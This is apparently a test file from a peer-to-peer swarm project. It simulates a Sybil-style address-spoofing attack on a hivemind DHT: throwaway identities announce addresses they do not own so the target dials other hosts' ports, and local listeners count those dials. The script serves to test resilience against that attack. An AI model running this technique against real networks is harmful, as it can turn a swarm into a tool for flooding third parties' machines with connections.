"""Announces 40 addresses that are not its own, stands in the DHT under them, and leaves: whoever calls it then dials other people's ports.

A key costs nothing: the attack goes on with new ones.
"""

import asyncio
import contextlib
import socket
import tempfile
import time
from collections import Counter
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from functools import partial
from pathlib import Path
from secrets import token_bytes

from hivemind.dht.node import DHTNode
from hivemind.dht.routing import DHTID
from hivemind.p2p import P2P, P2PDaemonError, PeerID
from hivemind.utils import get_dht_time

from manta_swarm.network.validator import OwnedRecords
from manta_swarm.protocol.affinity import NOWHERE
from manta_swarm.protocol.cohorts import ALL
from manta_swarm.protocol.encoding import encode, pack
from manta_swarm.protocol.records import Announcement
from manta_swarm.protocol.signing import Identity, PublicKey, peer_id
from tests.faults.strangers import Target

OWN_HOST, OTHER_HOST = "127.0.0.1", "127.0.0.9"  # where the stranger's connections come from, and another computer, so to speak
_OF_EACH = 20  # addresses
_NAMED = 8  # in an answer to where it is: as many as one may have
_STAY_S = 5.0
_TTL_S = 600.0


class Victims:
    """Ports of a local network that count who connects to them, and hang up."""

    def __init__(self) -> None:
        self.dials: Counter[str] = Counter()  # by address, as a multiaddress
        self.addresses: list[str] = []
        self._servers: list[asyncio.Server] = []

    @classmethod
    @asynccontextmanager
    async def listening(cls) -> AsyncIterator["Victims"]:
        """Listen at ports of both hosts until the context ends."""
        victims = cls()
        try:
            for host in (OWN_HOST, OTHER_HOST) * _OF_EACH:
                await victims._listen(host)
            yield victims
        finally:
            for server in victims._servers:
                server.close()

    async def _listen(self, host: str) -> None:
        def count(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.dials[address] += 1
            writer.transport.abort()

        server = await asyncio.start_server(count, host, 0, family=socket.AF_INET)
        self._servers.append(server)
        address = f"/ip4/{host}/tcp/{server.sockets[0].getsockname()[1]}"
        self.addresses.append(address)

    def dials_at(self, host: str) -> int:
        """Return how often somebody connected to ports of this host."""
        return sum(count for address, count in self.dials.items() if f"/ip4/{host}/" in address)


@asynccontextmanager
async def stranger(target: Target, addresses: Sequence[str]) -> AsyncIterator[PublicKey]:
    """Stand in the DHT and among the run's members with a new key, under these addresses; leave without a word at the end."""
    identity = Identity(token_bytes(32))
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory, "identity.key")
        path.write_bytes(identity.to_libp2p())  # noqa: ASYNC240 - nothing else waits for the disk here
        p2p = await P2P.create(
            initial_peers=[target.address],
            announce_maddrs=addresses,
            identity_path=str(path),
            check_if_identity_free=False,
            nat_port_map=False,
            use_relay=False,
        )
        try:
            await p2p._client.add_unary_handler("manta.where", partial(_name, addresses))
            node_id = DHTID.generate(source=p2p.peer_id.to_bytes())  # as others hold it to
            dht = await DHTNode.create(
                p2p=p2p,
                node_id=node_id,
                initial_peers=[target.address],
                record_validator=OwnedRecords(identity),
                strict=False,  # nobody calls it back to say whether it can be reached
                ensure_bootstrap_success=False,
            )
            announcement = Announcement(target.run, identity.public_key, "strangers", 0, time.time_ns() // 1_000_000, NOWHERE, ALL)
            name, until = f"manta-{target.run.hex()}-members", get_dht_time() + _TTL_S
            await dht.store(name, pack(announcement), until, subkey=peer_id(identity.public_key), exclude_self=True)
            yield identity.public_key
        finally:
            await p2p.shutdown()


async def _name(addresses: Sequence[str], _request: bytes, _caller: PeerID) -> bytes:
    """Answer that this node is at some of these places."""
    parts = [address.split("/") for address in addresses]
    return b"\x00" + encode((tuple((host, int(port)) for _, _, host, _, port in parts)[:_NAMED],))


async def attack(target: Target) -> None:
    """Come with a new key every few seconds, and leave its addresses behind."""
    async with Victims.listening() as victims:
        is_first = True
        while True:
            with contextlib.suppress(P2PDaemonError):  # the target does not answer: it comes again
                async with stranger(target, victims.addresses):
                    if is_first:
                        print("attacks", flush=True)
                    is_first = False
                    await asyncio.sleep(_STAY_S)
            await asyncio.sleep(1)
